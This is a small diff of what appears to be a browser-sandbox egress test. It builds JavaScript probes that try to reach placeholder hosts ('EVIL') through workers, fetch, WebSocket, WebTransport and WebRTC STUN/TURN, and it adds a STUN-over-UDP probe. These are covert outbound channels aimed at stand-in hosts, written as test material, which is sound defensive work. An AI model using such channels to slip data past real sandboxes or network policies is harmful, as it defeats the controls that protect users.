@@ -49,6 +49,7 @@ _W_IMPORT = _worker("try{importScripts('EVIL')}catch(e){}")
 _W_TRANSPORT = _worker("try{new WebTransport('EVILTLS')}catch(e){}")
 _S_FETCH, _S_SOCKET = _worker("fetch('EVIL')", "SharedWorker"), _worker("new WebSocket('EVILWS')", "SharedWorker")
 _STUN = "(async(R)=>{const c=new R({iceServers:[ICE]});c.createDataChannel('x');await c.setLocalDescription(await c.createOffer())})"
+STUN_BY_UDP = _STUN.replace("ICE", "{urls:'stun:127.0.0.1:SINK'}")
 _BY_UDP, _BY_TCP = "{urls:'stun:127.0.0.1:SINK'}", "{urls:'turn:127.0.0.1:SINK?transport=tcp',username:'u',credential:'c'}"
 _REGISTER = script(
     "navigator.serviceWorker.register('/TAG/sw.js',{scope:'/TAG/'}).then(r=>navigator.serviceWorker.ready).then(()=>{AFTER})"
